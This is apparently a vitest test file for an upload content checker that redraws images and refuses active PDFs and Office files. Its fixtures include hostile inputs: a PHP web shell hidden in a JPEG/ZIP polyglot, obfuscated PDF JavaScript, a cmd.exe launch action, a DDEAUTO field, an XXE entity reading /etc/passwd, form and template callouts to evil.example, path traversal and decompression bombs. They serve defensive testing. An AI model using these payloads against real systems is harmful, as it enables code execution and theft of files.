import { deflateSync } from 'node:zlib';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { openLog } from '#api/platform/monitoring/log.ts';
import { doc, docx, xlsx, zip } from '#api/testing/samples/archives.ts';
import { objectStream, pdf, stream } from '#api/testing/samples/pdfs.ts';
import { photo, png, webp } from '#api/testing/samples/pictures.ts';
import type { FileType } from '#contract/files/file-types.ts';
import { type ContentChecker, openChecker } from './checker.ts';
import type { ContentOrder } from './verdict.ts';

let checker: ContentChecker;
beforeAll(() => {
  checker = openChecker(openLog({ logLevel: 'silent' }));
});
afterAll(() => checker.close());

const order: ContentOrder = { type: 'jpeg', longestEdge: 400, mostPixels: 1_000_000, mostPages: 3, wantsLook: false };
const check = (type: FileType, bytes: Buffer, more: Partial<ContentOrder> = {}) =>
  checker.check({ ...order, type, ...more }, { size: bytes.length, read: () => pieces(bytes) }, { owner: 'asha' });

/** As Excel writes “Unicode text”. */
const utf16 = (text: string): Buffer => Buffer.from(`\ufeff${text}`, 'utf16le');

async function* pieces(bytes: Buffer): AsyncGenerator<Buffer> {
  for (let at = 0; at < bytes.length; at += 50_000) yield bytes.subarray(at, at + 50_000);
}

describe('pictures', () => {
  test('[M-12.1] are drawn anew: turned upright, smaller, without place, camera or remark', async () => {
    const sent = await photo({ width: 800, height: 600, orientation: 6, remark: '<script>alert(1)</script>' });
    expect(sent.includes('<script>')).toBe(true);
    const { bytes, width, height } = await check('jpeg', sent);
    expect([width, height]).toEqual([300, 400]);
    expect(bytes.includes('<script>')).toBe(false);
    const { exif, orientation, icc, format } = await sharp(bytes).metadata();
    expect({ exif, orientation, icc, format }).toEqual({ exif: undefined, orientation: undefined, icc: undefined, format: 'jpeg' });
  });

  test('PNG and WebP keep their format', async () => {
    expect((await sharp((await check('png', await png())).bytes).metadata()).format).toBe('png');
    expect((await sharp((await check('webp', await webp())).bytes).metadata()).format).toBe('webp');
  });

  test('what hides behind the last pixel is gone', async () => {
    const polyglot = Buffer.concat([await photo(), zip([{ name: 'x.php', data: '<?php system($_GET[0]); ?>' }])]);
    const { bytes } = await check('jpeg', polyglot);
    expect(bytes.includes('PK\x05\x06')).toBe(false);
  });

  test('too many pixels are refused before they are unpacked', async () => {
    await expect(check('png', await png({ width: 1_200, height: 900 }))).rejects.toMatchObject({ code: 'file_too_many_pixels' });
    const flood = pngClaiming(65_000, 65_000);
    await expect(check('png', flood)).rejects.toMatchObject({ code: 'file_too_many_pixels' });
  });

  test('cut off, empty inside, or something else altogether: refused', async () => {
    const whole = await photo();
    await expect(check('jpeg', whole.subarray(0, whole.length / 2))).rejects.toMatchObject({ code: 'file_unreadable' });
    await expect(check('jpeg', Buffer.from('ffd8ffe000104a464946', 'hex'))).rejects.toMatchObject({ code: 'file_unreadable' });
    await expect(check('jpeg', await png())).rejects.toMatchObject({ code: 'file_type_differs' });
    await expect(check('png', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"/>'))).rejects.toMatchObject({
      code: 'file_type_differs',
    });
  });
});

describe('PDFs', () => {
  test('[M-12.1] a plain one passes as it is, and its pages become pictures', async () => {
    const sent = pdf({ pages: 2, catalog: '/OpenAction [10 0 R /Fit]' });
    const { bytes, pages } = await check('pdf', sent);
    expect(bytes.equals(sent)).toBe(true);
    expect(pages).toHaveLength(2);
    const { format, width, height } = await sharp(pages[0]).metadata();
    expect({ format, width, height }).toEqual({ format: 'jpeg', width: 1131, height: 1600 });
    const { channels } = await sharp(pages[0]).stats();
    // Not a white sheet: the words are on it.
    expect(channels[0]?.min).toBeLessThan(80);
  });

  test.each([
    ['a script on opening', { catalog: '/OpenAction << /S /JavaScript /JS (app.alert(1)) >>' }],
    ['a script under another spelling', { catalog: '/OpenAction << /S /J#61va#53cript /J#53 (1) >>' }],
    ['a script in the name tree', { catalog: '/Names << /JavaScript 100 0 R >>', objects: ['<< /Names [] >>'] }],
    ['a script in a packed object', { objects: [objectStream('<< /S /JavaScript /JS (app.alert(1)) >>')] }],
    [
      'a script packed twice',
      { objects: [stream(hex(deflateSync(Buffer.from('<< /S /JavaScript >>'))), '/First 4 /N 1 /Filter [/ASCIIHexDecode /FlateDecode]')] },
    ],
    ['a packed object that claims to be a picture', { objects: [objectStream('<< /S /JavaScript >>', '/Subtype /Image')] }],
    ['a program to launch', { page: '/AA << /O << /S /Launch /F (cmd.exe) >> >>' }],
    ['actions of a page', { page: '/AA << /O 100 0 R >>', objects: ['<< /S /GoTo >>'] }],
    ['an embedded file', { catalog: '/Names << /EmbeddedFiles 100 0 R >>', objects: ['<< /Names [] >>'] }],
    ['an attached note', { page: '/Annots [<< /Subtype /FileAttachment /FS << /EF << /F 100 0 R >> >> >>]', objects: [stream('MZ')] }],
    ['an XFA form', { catalog: '/AcroForm << /XFA 100 0 R >>', objects: [stream('<xdp/>')] }],
    ['rich media', { page: '/Annots [<< /Subtype /RichMedia >>]' }],
    ['a form that sends', { page: '/Annots [<< /Subtype /Widget /A << /S /SubmitForm /F (https://evil.example) >> >>]' }],
    ['an archive inside', { objects: [stream(zip([{ name: 'a.exe', data: 'MZ' }]))] }],
  ])('with %s is refused', async (_, made) => {
    await expect(check('pdf', pdf(made))).rejects.toMatchObject({ code: 'file_is_active' });
  });

  test('locked, too long, cut off, or followed by something else: refused, each in its own words', async () => {
    const locked = pdf({ trailer: '/Encrypt 100 0 R', objects: ['<< /Filter /Standard /V 2 /R 3 /Length 128 >>'] });
    await expect(check('pdf', locked)).rejects.toMatchObject({ code: 'file_is_locked' });
    await expect(check('pdf', pdf({ pages: 4 }))).rejects.toMatchObject({ code: 'file_too_many_pages' });
    await expect(check('pdf', pdf().subarray(0, 400))).rejects.toMatchObject({ code: 'file_unreadable' });
    await expect(check('pdf', Buffer.concat([pdf(), Buffer.from('<script>')]))).rejects.toMatchObject({ code: 'file_unreadable' });
    await expect(check('pdf', Buffer.from('%PDF-1.7\n%%EOF'))).rejects.toMatchObject({ code: 'file_unreadable' });
    await expect(check('pdf', Buffer.concat([Buffer.from('GIF89a'), pdf()]))).rejects.toMatchObject({ code: 'file_type_differs' });
  });

  test('a stream that unpacks without end is stopped', async () => {
    const bomb = pdf({ objects: [stream(deflateSync(Buffer.alloc(60_000_000)), '/Filter /FlateDecode')] });
    expect(bomb.length).toBeLessThan(100_000);
    await expect(check('pdf', bomb)).rejects.toMatchObject({ code: 'file_unreadable' });
  });
});

describe('office files and tables', () => {
  test('plain ones pass as they are', async () => {
    for (const [type, bytes] of [
      ['docx', docx()],
      ['xlsx', xlsx()],
      ['doc', doc()],
      ['csv', Buffer.from('Date,Narration,Amount\n15-11-2026,UPI/asha,201.00\n')],
      ['csv', utf16('Date\tNarration\tAmount\r\n15-11-2026\tआशा\t201.00\r\n')],
      ['csv', utf16('Date\tNarration\tAmount\r\n15-11-2026\tआशा\t201.00\r\n').swap16()],
      ['xml', Buffer.from('<?xml version="1.0"?><Document/>')],
    ] as const)
      expect((await check(type, bytes)).bytes.equals(bytes), type).toBe(true);
  });

  const relation = (attributes: string) =>
    docx([{ name: 'word/_rels/document.xml.rels', data: `<Relationships><Relationship ${attributes}/></Relationships>` }]);

  test.each<[string, FileType, Buffer]>([
    ['a macro', 'docx', docx([{ name: 'word/vbaProject.bin', data: 'x' }])],
    ['an embedded object', 'docx', docx([{ name: 'word/embeddings/oleObject1.bin', data: 'x' }])],
    [
      'a template from elsewhere',
      'docx',
      relation('Type="http://x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"'),
    ],
    [
      'a field that runs',
      'docx',
      docx([{ name: 'word/footnotes.xml', data: '<w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe</w:instrText>' }]),
    ],
    ['an entity', 'docx', docx([{ name: 'word/styles.xml', data: '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>' }])],
    ['an external link', 'xlsx', xlsx([{ name: 'xl/externalLinks/externalLink1.xml', data: '<x/>' }])],
    ['macros', 'doc', doc({ names: ['Macros'] })],
    ['an entity', 'xml', Buffer.from('<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "c">]><Document/>')],
  ])('with %s is refused: %s', async (_, type, bytes) => {
    await expect(check(type, bytes)).rejects.toMatchObject({ code: 'file_is_active' });
  });

  test('a link in the text is no reason', async () => {
    await expect(
      check('docx', relation('Type="http://x/hyperlink" Target="https://anjuri.example" TargetMode="External"')),
    ).resolves.toBeDefined();
  });

  test.each<[string, FileType, Buffer, string]>([
    ['a password', 'docx', docx([{ name: 'word/a.xml', data: 'x', flags: 1 }]), 'file_is_locked'],
    ['a password', 'doc', doc({ flags: 0x0100 }), 'file_is_locked'],
    ['another file inside', 'docx', xlsx(), 'file_type_differs'],
    ['no document', 'doc', doc({ withDocument: false }), 'file_type_differs'],
    ['a name that climbs out', 'docx', docx([{ name: '../../etc/cron.d/x', data: 'x' }]), 'file_unreadable'],
    ['two names for one entry', 'docx', docx([{ name: 'word/a.xml', localName: 'word/b.xml', data: 'x' }]), 'file_unreadable'],
    ['one name twice', 'docx', docx([{ name: 'word/document.xml', data: 'x' }]), 'file_unreadable'],
    [
      'a size it does not have',
      'docx',
      docx([{ name: 'word/media/a.bin', data: Buffer.alloc(2_000_000), size: 2_000_000_000 }]),
      'file_unreadable',
    ],
    ['something behind it', 'docx', Buffer.concat([docx(), Buffer.from('tail')]), 'file_unreadable'],
    ['markup instead of a table', 'csv', Buffer.from('<html><script>1</script>'), 'file_type_differs'],
    ['markup in UTF-16', 'csv', utf16('<html><script>1</script>'), 'file_type_differs'],
    ['bytes behind the mark of UTF-16', 'csv', utf16('Date,Amount\n\0\x01\x02,3'), 'file_type_differs'],
    ['bytes far behind it', 'csv', utf16(`${'Date,Amount\n'.repeat(100)}\x01,3`), 'file_unreadable'],
    ['an entity that UTF-16 hides', 'xml', utf16('<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "c">]><Document/>'), 'file_type_differs'],
    ['bytes instead of text', 'csv', Buffer.from('Date,Amount\n\0\x01\x02,3'), 'file_type_differs'],
  ])('with %s is refused: %s', async (_, type, bytes, code) => {
    await expect(check(type, bytes)).rejects.toMatchObject({ code });
  });
});

const hex = (bytes: Buffer): string => `${bytes.toString('hex')}>`;

/** A PNG of a few bytes whose header claims to be enormous. */
function pngClaiming(width: number, height: number): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([8, 2, 0, 0, 0], 8);
  const chunk = (name: string, data: Buffer) => {
    const body = Buffer.concat([Buffer.from(name), data]);
    const frame = Buffer.alloc(4);
    frame.writeUInt32BE(data.length);
    const sum = Buffer.alloc(4);
    sum.writeUInt32BE(crc(body));
    return Buffer.concat([frame, body, sum]);
  };
  const signature = Buffer.from('89504e470d0a1a0a', 'hex');
  return Buffer.concat([signature, chunk('IHDR', header), chunk('IDAT', deflateSync(Buffer.alloc(1_000))), chunk('IEND', Buffer.alloc(0))]);
}

function crc(bytes: Buffer): number {
  let value = 0xffffffff;
  for (const byte of bytes) {
    value ^= byte;
    for (let i = 0; i < 8; i++) value = value & 1 ? (value >>> 1) ^ 0xedb88320 : value >>> 1;
  }
  return (value ^ 0xffffffff) >>> 0;
}
